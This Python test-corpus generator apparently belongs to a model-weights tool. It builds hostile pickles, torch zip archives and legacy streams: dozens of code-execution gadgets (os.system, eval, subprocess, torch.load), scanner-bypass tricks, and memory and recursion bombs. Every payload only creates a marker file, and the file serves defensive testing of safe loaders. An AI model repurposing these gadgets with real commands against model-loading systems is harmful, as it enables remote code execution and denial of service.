"""A corpus of hostile pickles and archives, made by hand; the payloads only make a marker file.

`corpus` gives name to bytes. Sources of the tricks: CVE-2025-32434 and CVE-2026-24747 (torch.load with
weights_only), the published bypasses of pickle scanners, and Python's own list of opcodes.
"""

from __future__ import annotations

import io
import pickle
import struct
import zipfile
from collections.abc import Callable, Iterator

MARKER = "weighttools-was-here"


def text(value: str) -> bytes:
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def short(value: str) -> bytes:
    data = value.encode()
    return b"\x8c" + bytes([len(data)]) + data


def glob(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def call(module: str, name: str, *args: bytes) -> bytes:
    """Push what calling a global with pushed arguments gives."""
    return glob(module, name) + b"(" + b"".join(args) + b"tR"


def proto(body: bytes, version: int = 2) -> bytes:
    return b"\x80" + bytes([version]) + body + b"."


def number(value: int) -> bytes:
    data = value.to_bytes(value.bit_length() // 8 + 1, "little", signed=True)
    return b"\x8a" + bytes([len(data)]) + data


def storage(key: str = "0", n: int = 4, kind: str = "FloatStorage", module: str = "torch") -> bytes:
    return b"(" + text("storage") + glob(module, kind) + text(key) + text("cpu") + number(n) + b"tQ"


def tuple_of(values: tuple[int, ...]) -> bytes:
    return b"(" + b"".join(map(number, values)) + b"t"


def tensor(
    size: tuple[int, ...] = (4,),
    stride: tuple[int, ...] = (1,),
    offset: int = 0,
    held: bytes | None = None,
    function: str = "_rebuild_tensor_v2",
    more: bytes = b"",
) -> bytes:
    held = storage() if held is None else held
    rest = b"\x89" + glob("collections", "OrderedDict") + b")R"
    arguments = held + number(offset) + tuple_of(size) + tuple_of(stride) + rest + more
    return glob("torch._utils", function) + b"(" + arguments + b"tR"


def state(value: bytes) -> bytes:
    return proto(b"}" + text("w") + value + b"s")


def archive(data: bytes, root: str = "archive", **more: bytes) -> bytes:
    """A torch zip with one storage of 16 bytes."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as file:
        file.writestr(f"{root}/data.pkl", data)
        file.writestr(f"{root}/byteorder", b"little")
        file.writestr(f"{root}/data/0", bytes(16))
        file.writestr(f"{root}/version", b"3\n")
        for name, content in more.items():
            file.writestr(name, content)
    return stream.getvalue()


def payloads(marker: str) -> Iterator[tuple[str, bytes]]:
    """Pickles that run code in an unpickler that lets them."""
    touch, python = text(f"touch {marker}"), text(f"open({marker!r}, 'w')")
    calls = [
        ("os", "system", touch), ("posix", "system", touch), ("nt", "system", touch), ("subprocess", "call", touch),
        ("subprocess", "Popen", touch), ("builtins", "eval", python), ("builtins", "exec", python),
        ("__builtin__", "eval", python), ("builtins", "open", text(marker) + text("w")), ("io", "open", text(marker)),
        ("runpy", "_run_code", python), ("runpy", "run_path", text(marker)), ("timeit", "timeit", python),
        ("pdb", "run", python), ("bdb", "Bdb.run", python), ("cProfile", "run", python), ("code", "interact", touch),
        ("pty", "spawn", touch), ("ctypes", "CDLL", text(marker)), ("importlib", "import_module", text("os")),
        ("builtins", "__import__", text("antigravity")), ("webbrowser", "open", text("file:///")),
        ("pickle", "loads", text("x")), ("_pickle", "loads", text("x")), ("marshal", "loads", text("x")),
        ("shutil", "copyfile", text("/etc/hostname") + text(marker)), ("pathlib", "Path.touch", text(marker)),
        ("tempfile", "mkstemp", text(marker)), ("logging", "FileHandler", text(marker)),
        ("numpy.testing._private.utils", "runstring", python + b"}"), ("numpy", "load", text(marker)),
        ("numpy.f2py.capi_maps", "getinit", python), ("numpy.f2py.crackfortran", "myeval", python),
        ("torch.jit._load", "load", text(marker)), ("torch.jit", "load", text(marker)), ("torch", "load", text(marker)),
        ("torch.storage", "_load_from_bytes", b"C\x04abcd"), ("torch.hub", "load", text(marker)),
        ("torch.utils.cpp_extension", "load", text(marker)), ("torch.serialization", "load", text(marker)),
        ("torch.utils.collect_env", "run", touch), ("torch._dynamo.guards", "GuardBuilder.get", python),
        ("torch.utils._config_module", "ConfigModule.load_config", text("x")), ("torch.fx", "symbolic_trace", python),
        ("torch.distributed.rpc.api", "_run_function", python), ("torch.ops", "load_library", text(marker)),
        ("functools", "partial", glob("os", "system") + touch), ("operator", "methodcaller", text("system")),
        ("copyreg", "_reconstructor", glob("os", "system") + b"NN"), ("types", "FunctionType", b"N"),
        ("torch", "serialization.os.system", touch), ("collections", "abc.sys.modules.get", text("os")),
        ("torch._utils", "__builtins__.eval", python), ("pip._internal", "main", text("install")),
        ("weighttools.verbs.convert", "convert", text(marker) + text(marker)), ("site", "main", b""),
        ("multiprocessing.util", "spawnv_passfds", touch), ("lib2to3.pgen2.grammar", "Grammar.loads", text("x")),
        ("idlelib.pyshell", "ModifiedInterpreter.runcommand", python), ("doctest", "debug_script", python),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", touch), ("trace", "Trace.run", python),
        ("profile", "run", python), ("ensurepip", "_run_pip", touch), ("a" * 5000, "b" * 5000, touch),
        ("os\x1b[31m", "system", touch), ("", "", touch), ("this", "d", b""), ("__main__", "x", b""),
    ]  # fmt: skip
    for module, name, args in calls:
        yield f"reduce {module}.{name}"[:60], proto(call(module, name, args))
        yield f"entry {module}.{name}"[:60], state(call(module, name, args))
    system, args, evil = glob("os", "system"), b"(" + touch + b"t", call("os", "system", touch)
    inner = b"B" + struct.pack("<I", 40) + proto(evil)[:40].ljust(40)
    named = short("os") + b"\x94" + short("system") + b"\x94"
    getattr_system = call("builtins", "getattr", glob("os", "environ"), text("x"))
    yield from {
        "stack global": proto(short("os") + short("system") + b"\x93" + args + b"R", 4),
        "stack global by memo": proto(named + b"00h\x00h\x01\x93" + args + b"R", 4),
        "stack global of numbers": proto(b"K\x01K\x02\x93.", 4),
        "stack global of a tuple": proto(b")" + short("system") + b"\x93.", 4),
        "memo swapped": proto(system + b"q\x000" + text("safe") + b"q\x010h\x00" + args + b"R"),
        "memo overwritten": proto(text("a") + b"q\x000" + system + b"q\x000h\x00" + args + b"R"),
        "inst": proto(b"(" + touch + b"ios\nsystem\n"),
        "obj": proto(b"(" + system + touch + b"o"),
        "newobj": proto(system + args + b"\x81"),
        "newobj_ex": proto(system + args + b"}\x92", 4),
        "build with __setstate__": proto(system + b")\x81}" + text("__setstate__") + system + b"sb" + touch + b"b"),
        "build on a list": proto(b"]}" + text("__class__") + system + b"sb"),
        "build on a tensor": state(tensor() + b"}" + text("__reduce__") + system + b"sb"),
        "reduce of a tensor function": proto(glob("torch._utils", "_rebuild_tensor_v2") + evil + b"R"),
        "tensor of a called storage": state(tensor(held=evil)),
        "persistent id of a call": proto(evil + b"Q"),
        "storage of another class": state(tensor(held=storage(kind="system", module="os"))),
        "parameter of a call": state(call("torch._utils", "_rebuild_parameter", evil, b"\x88", b"N")),
        "type of a call": state(
            call("torch._tensor", "_rebuild_from_type_v2", system, system, args, b"}")
        ),
        "getattr chain": proto(getattr_system + args + b"R"),
        "ordered dict subclass": proto(call("collections", "OrderedDict", evil)),
        "defaultdict factory": proto(call("collections", "defaultdict", system) + text("x") + b"Ns"),
        "ext1": proto(b"\x82\x01)R"),
        "ext2": proto(b"\x83\x01\x02)R"),
        "ext4": proto(b"\x84\xff\xff\xff\x7f)R"),
        "nested pickle": proto(call("pickle", "loads", inner)),
        "frames": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"N0" + proto(evil, 4),
        "call with a call": proto(call("os", "system", call("builtins", "str", touch))),
        "unicode global": proto(short("os") + short("ѕystem") + b"\x93" + args + b"R", 4),
        "protocol 0": b"cos\nsystem\n(S'touch " + marker.encode() + b"'\ntR.",
    }.items()  # fmt: skip


def broken(marker: str) -> Iterator[tuple[str, bytes]]:
    """Pickles that would exhaust, confuse or crash a machine."""
    deep = 100_000
    laughs = b"".join(
        b"(" + b"h" + bytes([i]) * 1 + (b"h" + bytes([i])) * 9 + b"lq" + bytes([i + 1]) for i in range(60)
    )
    tables = b"".join(
        b"}(" + b"".join(text(f"{j}") + b"h" + bytes([i]) for j in range(10)) + b"uq" + bytes([i + 1])
        for i in range(60)
    )
    tuples = b"".join(b"h" + bytes([i]) + b"h" + bytes([i]) + b"\x86q" + bytes([i + 1]) for i in range(200))
    long_key = text("k" * 30_000) + b"q\x000"
    nest = b"".join(b"}h\x00" + b"N" * 0 for _ in range(150))
    yield from {
        "empty": b"\x80\x02",
        "no stop": b"\x80\x02N",
        "only stop": b"\x80\x02.",
        "underflow": proto(b"0"),
        "underflow below a mark": proto(b"N(\x85"),
        "mark missing": proto(b"t"),
        "odd entries": proto(b"}(Nu"),
        "memo unset": proto(b"h\x05"),
        "memo of nothing": proto(b"q\x00"),
        "append to nothing": proto(b"NNa"),
        "entries of a number": proto(b"K\x01NNs"),
        "reduce without arguments": proto(b"NR"),
        "unknown opcode": proto(b"\xff"),
        "protocol 200": b"\x80\xc8N.",
        "long4 huge": proto(b"\x8b\xff\xff\xff\x7f"),
        "long4 negative": proto(b"\x8b\xff\xff\xff\xff"),
        "binbytes8 huge": proto(b"\x8e" + b"\xff" * 8, 4),
        "bytearray8 huge": proto(b"\x96" + struct.pack("<Q", 1 << 62), 5),
        "binunicode8 huge": proto(b"\x8d" + struct.pack("<Q", 1 << 40), 4),
        "binunicode huge": proto(b"X\xff\xff\xff\xff"),
        "frame huge": proto(b"\x95" + b"\xff" * 8 + b"N", 4),
        "long digits": proto(b"L" + b"9" * 500_000 + b"L\n"),
        "int garbage": proto(b"I1e9\n"),
        "float garbage": proto(b"Fnope\n"),
        "string without quotes": proto(b"Stext\n"),
        "string escape": proto(b"S'\\x'\n"),
        "text not utf-8": proto(b"X\x02\0\0\0\xff\xfe"),
        "long_binput huge": proto(b"Nr\xff\xff\xff\xff"),
        "put negative": proto(b"Np-5\n"),
        "line without end": b"\x80\x02c" + b"o" * 3_000_000,
        "deep lists": proto(b"]" * deep + b"a" * (deep - 1)),
        "deep tuples": proto(b")" + b"\x85" * deep),
        "deep tuple as a key": proto(b"})" + b"\x85" * deep + b"Ns"),
        "deep dictionaries": proto(b"}" + (text("a") + b"}") * 5000 + b"s" * 5000),
        "marks": proto(b"(" * 300_000),
        "laughs of lists": proto(b"]q\x000" + laughs),
        "laughs of dictionaries": proto(b"}q\x000" + tables),
        "laughs of tuples as a key": proto(b")q\x000" + tuples + b"0}h\xc8Ns"),
        "laughs of tensors": proto(tensor() + b"q\x000" + tables),
        "long names": proto(long_key + nest + tensor() + b"s" * 150),
        "cycle of a list": proto(b"]q\x00h\x00a"),
        "cycle of a dictionary": proto(b"}q\x00" + text("a") + b"h\x00s"),
        "cycle of an object": proto(glob("a", "b") + b")Rq\x00h\x00b"),
        "callee is itself": proto(glob("a", "b") + b")Rq\x00h\x00)R"),
        "callee is a list": proto(b"])R"),
        "callee is a deep tuple": proto(b")" + b"\x85" * deep + b")R"),
        "build of a cycle": proto(b"}q\x00h\x00b"),
        "persistent id as text": proto(b"Pos.system\n"),
        "buffers": proto(b"\x97\x98", 5),
        "set of tables": proto(b"\x8f(}}\x90", 4),
        "surrogate key": proto(b"}X\x03\0\0\0\xed\xa0\x80" + tensor() + b"s"),
        "escape in a key": proto(b"}" + text("\x1b[31mred\n") + tensor() + b"s"),
        "path as a key": proto(b"}" + text("../../" + marker) + tensor() + b"s"),
        "two of one name": proto(b"}(" + text("a.b") + tensor() + text("a") + b"}" + text("b") + tensor((2,)) + b"su"),
    }.items()  # fmt: skip
    huge, old = 1 << 62, glob("torch._utils", "_rebuild_tensor")
    views: dict[str, bytes] = {
        "negative size": tensor((-1,)),
        "negative stride": tensor((4,), (-1,)),
        "negative offset": tensor(offset=-1),
        "huge size": tensor((huge,), (0,)),
        "size overflow": tensor((1 << 32, 1 << 32), (1, 1)),
        "size overflow to zero": tensor((1 << 61, 8, 1 << 61), (0, 0, 0)),
        "huge stride": tensor((2,), (huge,)),
        "huge offset": tensor((1,), (1,), huge),
        "offset at the end": tensor((1,), (1,), 4),
        "one too many": tensor((5,)),
        "stride past the end": tensor((2, 2), (3, 1)),
        "sizes and strides differ": tensor((2, 2), (1,)),
        "expanded without end": tensor((1 << 40,), (0,)),
        "many axes": tensor((1,) * 1000, (1,) * 1000),
        "zero size, huge others": tensor((0, huge, huge), (1, 1, 1)),
        "storage larger than the record": tensor((1000,), held=storage(n=1000)),
        "storage huge": tensor((1,), held=storage(n=1 << 61)),
        "storage negative": tensor((1,), held=storage(n=-4)),
        "storage missing": tensor(held=storage("7")),
        "storage with a path": tensor(held=storage("../../data.pkl")),
        "storage of doubles": tensor((4,), held=storage(kind="DoubleStorage")),
        "untyped as typed": tensor(held=storage(kind="UntypedStorage", module="torch.storage")),
        "v3 without dtype": tensor(function="_rebuild_tensor_v3"),
        "v3 of a module": tensor(function="_rebuild_tensor_v3", more=glob("os", "system")),
        "v3 larger dtype": tensor(function="_rebuild_tensor_v3", more=glob("torch", "float64")),
        "size is a tensor": old + b"(" + storage() + b"K\x00" + tensor() * 2 + b"tR",
        "size is true": old + b"(" + storage() + b"K\x00(\x88t(\x88ttR",
        "no arguments": glob("torch._utils", "_rebuild_tensor_v2") + b")R",
        "sparse": call("torch._utils", "_rebuild_sparse_tensor", glob("torch", "sparse_coo"), b")"),
        "quantised": call("torch._utils", "_rebuild_qtensor", storage(kind="QInt8Storage"), b"K\x00", b")", b")", b")"),
        "parameters all the way": glob("torch._utils", "_rebuild_parameter") * 200 + tensor() + b"\x85R" * 200,
    }  # fmt: skip
    yield from ((f"tensor: {name}", state(value)) for name, value in views.items())


def archives(marker: str) -> Iterator[tuple[str, bytes]]:
    """Zip archives that show different readers different things."""
    good, evil = state(tensor()), proto(call("os", "system", text(f"touch {marker}")))
    whole = archive(good)
    yield "two roots", archive(good, **{"other/data.pkl": evil})
    yield "two cases", archive(good, **{"archive/DATA.PKL": evil})
    yield "storage in two cases", archive(good, **{"archive/Data/0": bytes(16)})
    yield "upper case only", archive(good).replace(b"archive/data.pkl", b"archive/DATA.PKL")
    yield "evil constants", archive(good, **{"archive/constants.pkl": evil, "archive/code/__torch__.py": b"import os"})
    yield "member with a path", archive(good, **{"../../" + marker: b"x", "/" + marker: b"x"})
    yield "odd byteorder", whole.replace(b"little", b"middle")
    yield "local header differs", whole.replace(b"archive/data.pkl", b"archive/evil.pkl", 1)
    yield "no directory", whole[: whole.rindex(b"PK\x01\x02")]
    yield "cut", whole[: len(whole) // 2]
    yield "no pickle", archive(good).replace(b"data.pkl", b"data.pkx")
    doubled = io.BytesIO(whole)
    with zipfile.ZipFile(doubled, "a") as file, _quiet():
        file.writestr("archive/data.pkl", evil)
    yield "duplicate pickle", doubled.getvalue()
    for name, change in _directory_tricks().items():
        yield name, change(whole)
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("archive/data.pkl", state(tensor((1 << 24,), held=storage(n=1 << 24))))
        file.writestr("archive/data/0", bytes(1 << 20))
    yield "storage deflated", bomb.getvalue()
    inflated = io.BytesIO()
    with zipfile.ZipFile(inflated, "w", zipfile.ZIP_DEFLATED) as file:
        file.writestr("archive/data.pkl", b"\x80\x02" + b"(" * (100 << 20) + b".")
    yield "pickle deflated", inflated.getvalue()


def _quiet() -> object:
    import warnings

    return warnings.catch_warnings(action="ignore")


def _directory_tricks() -> dict[str, Callable[[bytes], bytes]]:
    """Changes of the first entry of the zip's directory."""

    def patched(at: int, value: bytes) -> Callable[[bytes], bytes]:
        def change(data: bytes) -> bytes:
            start = data.index(b"PK\x01\x02") + at
            return data[:start] + value + data[start + len(value) :]

        return change

    return {
        "directory: encrypted": patched(8, b"\x01"),
        "directory: other method": patched(10, b"\x0c"),
        "directory: deflated": patched(10, b"\x08"),
        "directory: huge size": patched(20, b"\xf0\xff\xff\x7f\xf0\xff\xff\x7f"),
        "directory: offset of another": patched(42, b"\xff\xff\x00\x00"),
        "directory: zip64 without extra": patched(20, b"\xff" * 8),
    }


def legacy(data: bytes, keys: list[str] | None = None, storages: bytes | None = None) -> bytes:
    """A legacy stream around a pickle."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2) + pickle.dumps({"little_endian": True}, 2)
    listed = pickle.dumps(["0"] if keys is None else keys, 2)
    return head + data + listed + (struct.pack("<Q", 4) + bytes(16) if storages is None else storages)


def streams() -> Iterator[tuple[str, bytes]]:
    """Legacy streams whose parts contradict one another."""
    view = b"(" + text("storage") + glob("torch", "FloatStorage") + text("0") + text("cpu") + number(4)
    good = state(tensor(held=view + b"NtQ"))
    outside = view + b"(" + text("v") + number(2) + number(1 << 40) + b"ttQ"
    yield "legacy: good", legacy(good)
    yield "legacy: view outside", legacy(state(tensor((1,), held=outside)))
    yield "legacy: more elements", legacy(good, storages=struct.pack("<Q", 1 << 60) + bytes(16))
    yield "legacy: key twice", legacy(good, ["0", "0"])
    yield "legacy: key unknown", legacy(good, ["1"])
    yield "legacy: no keys", legacy(good, [])
    yield "legacy: keys are no list", legacy(good)[:-24].replace(b"]q\x00", b"}q\x00")
    yield "legacy: no storages", legacy(good, storages=b"")
    yield "legacy: wrong magic", legacy(good).replace(b"\x19.", b"\x18.", 1)
    yield "legacy: wrong protocol", legacy(good).replace(b"M\xe9\x03", b"M\xea\x03", 1)
    yield "legacy: untyped key", legacy(state(tensor(held=b"(" + text("storage") + b"NNNNNtQ")))


def corpus(marker: str) -> dict[str, bytes]:
    """Return every hostile file by name: each payload bare, in a zip, and in a legacy stream."""
    found: dict[str, bytes] = {}
    for name, data in [*payloads(marker), *broken(marker)]:
        if not name.startswith("entry "):
            found[f"bare: {name}"] = data
        if not name.startswith("reduce "):
            found[f"zip: {name}"] = archive(data)
        if not name.startswith(("reduce ", "entry ", "deep ", "laughs ")):
            found[f"legacy: {name}"] = legacy(data)
    found |= dict(archives(marker)) | dict(streams())
    return found


if __name__ == "__main__":
    import sys
    from pathlib import Path

    home = Path(sys.argv[1])
    home.mkdir(parents=True, exist_ok=True)
    for i, (title, content) in enumerate(corpus(MARKER).items()):
        (home / f"{i:03d}-{''.join(c if c.isalnum() else '-' for c in title)[:60]}.pt").write_bytes(content)
